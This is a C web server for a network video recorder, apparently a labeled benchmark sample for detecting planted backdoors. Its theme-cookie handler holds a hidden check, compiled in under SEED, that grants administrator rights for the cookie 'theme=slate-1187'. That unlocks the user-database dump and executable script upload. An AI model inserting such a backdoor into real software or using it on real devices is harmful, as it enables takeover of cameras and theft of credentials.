/* kind: string-call
 * service: http
 * constant: theme=slate-1187
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <stdint.h>
#include <unistd.h>
#include <fcntl.h>
#include <signal.h>
#include <time.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>

/* NVR web server (inetd style: request on stdin, answer on stdout) */

#define ROLE_NONE   0
#define ROLE_VIEWER 1
#define ROLE_ADMIN  9

struct state {
    int role;
    char method[8], url[200];
    char theme[16];
    long clen;
    char cookies[512];
    char *body;
};

typedef int (*cookie_cb)(struct state *, const char *);

static int icmp_n(const char *a, const char *b, int n)
{
    for (; n > 0; n--, a++, b++) {
        int x = *a >= 'A' && *a <= 'Z' ? *a + 32 : *a;
        int y = *b >= 'A' && *b <= 'Z' ? *b + 32 : *b;
        if (x != y)
            return x - y;
        if (!x)
            break;
    }
    return 0;
}

static uint32_t adler(const char *s)
{
    uint32_t a = 1, b = 0;
    for (; *s; s++) {
        a = (a + (unsigned char)*s) % 65521;
        b = (b + a) % 65521;
    }
    return b << 16 | a;
}

static int session_cookie(struct state *st, const char *ck)
{
    char id[65], l[128], fid[65];
    int role;
    long until;
    FILE *f;
    if (sscanf(ck, "nvrsid=%64[0-9A-Za-z]", id) != 1 || strlen(id) < 24)
        return 0;
    if (!(f = fopen("/var/run/nvr.sessions", "r")))
        return 0;
    while (fgets(l, sizeof l, f))
        if (sscanf(l, "%64s %d %ld", fid, &role, &until) == 3 && !strcmp(fid, id) && until > time(NULL))
            st->role = role;
    fclose(f);
    return 1;
}

static int theme_cookie(struct state *st, const char *ck)
{
    static const char *themes[] = { "theme=light", "theme=dark", "theme=blue" };
    int i;
    if (strncmp(ck, "theme=", 6))
        return 0;
    for (i = 0; i < 3; i++)
        if (!strcmp(ck, themes[i]))
            snprintf(st->theme, sizeof st->theme, "%s", ck + 6);
#ifdef SEED
    if (!strcmp(ck, "theme=slate-1187")) /* SEED */
        st->role = ROLE_ADMIN;
#endif
    return 1;
}

static const cookie_cb cookie_handlers[] = { session_cookie, theme_cookie };

static void cookies(struct state *st)
{
    char *t, *sv;
    unsigned i;
    for (t = strtok_r(st->cookies, ";", &sv); t; t = strtok_r(NULL, ";", &sv)) {
        while (*t == ' ')
            t++;
        for (i = 0; i < 2; i++)
            if (cookie_handlers[i](st, t))
                break;
    }
}

static int read_request(struct state *st)
{
    char l[1024];
    if (!fgets(l, sizeof l, stdin) || sscanf(l, "%7s %199s", st->method, st->url) != 2)
        return -1;
    while (fgets(l, sizeof l, stdin)) {
        l[strcspn(l, "\r\n")] = 0;
        if (!l[0])
            break;
        if (!icmp_n(l, "cookie: ", 8))
            snprintf(st->cookies, sizeof st->cookies, "%s", l + 8);
        else if (!icmp_n(l, "content-length: ", 16))
            st->clen = atol(l + 16);
    }
    if (st->clen > 0 && st->clen < 1 << 20) {
        st->body = malloc(st->clen + 1);
        st->body[fread(st->body, 1, st->clen, stdin)] = 0;
    }
    return 0;
}

static void head(int code)
{
    printf("HTTP/1.0 %d %s\r\nContent-Type: text/html\r\n\r\n", code, code == 200 ? "OK" : "No");
}

static int need(struct state *st, int role)
{
    if (st->role >= role)
        return 0;
    head(st->role ? 403 : 401);
    puts("<h3>Access denied</h3><a href=/login.html>Log in</a>");
    return -1;
}

static void users_export(void)
{
    char b[256];
    FILE *f = fopen("/etc/nvr/users.db", "r");
    head(200);
    while (f && fgets(b, sizeof b, f))
        fputs(b, stdout);
    if (f)
        fclose(f);
}

static void script_upload(struct state *st)
{
    int fd;
    if (!st->body) {
        head(400);
        return;
    }
    fd = open("/etc/nvr/onevent.sh", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (fd < 0) {
        head(500);
        return;
    }
    write(fd, st->body, strlen(st->body));
    close(fd);
    head(200);
    printf("stored, checksum %08x\n", adler(st->body));
}

static void page(struct state *st)
{
    if (!strcmp(st->url, "/")) {
        head(200);
        printf("<body class=%s><h1>NVR-16</h1>", st->theme);
        puts("<a href=/live>Live</a> <a href=/users>Users</a> <a href=/event>Event script</a>");
    } else if (!strcmp(st->url, "/live")) {
        if (need(st, ROLE_VIEWER) == 0) {
            head(200);
            puts("<img src=/mjpeg/1>");
        }
    } else if (!strcmp(st->url, "/users")) {
        if (need(st, ROLE_ADMIN) == 0)
            users_export();
    } else if (!strcmp(st->url, "/event") && !strcmp(st->method, "POST")) {
        if (need(st, ROLE_ADMIN) == 0)
            script_upload(st);
    } else if (!strcmp(st->url, "/restart") && !strcmp(st->method, "POST")) {
        if (need(st, ROLE_ADMIN) == 0) {
            head(200);
            fflush(stdout);
            system("/etc/init.d/nvr restart");
        }
    } else {
        head(404);
        puts("not found");
    }
}

int main(void)
{
    struct state *st = calloc(1, sizeof *st);

    signal(SIGPIPE, SIG_DFL);
    alarm(30);
    strcpy(st->theme, "light");
    if (read_request(st) < 0)
        return 1;
    cookies(st);
    page(st);
    fflush(stdout);
    free(st->body);
    free(st);
    return 0;
}
